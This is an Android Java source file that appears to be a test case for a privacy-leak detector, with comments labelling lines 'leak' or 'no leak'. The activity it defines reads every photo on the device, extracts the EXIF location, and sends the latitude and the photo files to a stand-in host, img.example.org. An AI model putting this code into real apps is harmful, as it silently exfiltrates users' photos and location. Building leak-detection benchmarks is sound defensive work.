package ways;

import android.app.Activity;
import android.database.Cursor;
import android.media.ExifInterface;
import android.os.Bundle;
import android.provider.MediaStore;
import java.io.DataOutputStream;
import java.io.File;
import java.io.FileInputStream;
import java.net.HttpURLConnection;
import java.net.URL;

/** Where pictures were taken, and the pictures. */
public class PhotoPlace extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor c = getContentResolver().query(MediaStore.Images.Media.EXTERNAL_CONTENT_URI,
                new String[] {MediaStore.Images.Media.DATA}, null, null, null);
        while (c.moveToNext()) {
            String path = c.getString(c.getColumnIndexOrThrow(MediaStore.Images.Media.DATA));
            try {
                float[] at = new float[2];
                ExifInterface exif = new ExifInterface(path);
                exif.getLatLong(at);
                new URL("http://img.example.org/?lat=" + at[0] + "&w=1").openStream(); // leak
                new URL("http://img.example.org/?model=x").openStream(); // no leak
                upload(new File(path));
            } catch (Exception e) {
                finish();
            }
        }
    }

    private void upload(File file) throws Exception {
        HttpURLConnection connection = (HttpURLConnection) new URL("http://img.example.org/up").openConnection();
        DataOutputStream out = new DataOutputStream(connection.getOutputStream());
        out.writeBytes("--b\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n"); // no leak
        FileInputStream in = new FileInputStream(file);
        byte[] buffer = new byte[4096];
        int n = in.read(buffer, 0, buffer.length);
        while (n > 0) {
            out.write(buffer, 0, n); // leak
            n = in.read(buffer, 0, buffer.length);
        }
        out.writeBytes("\r\n--b--\r\n"); // no leak
    }
}
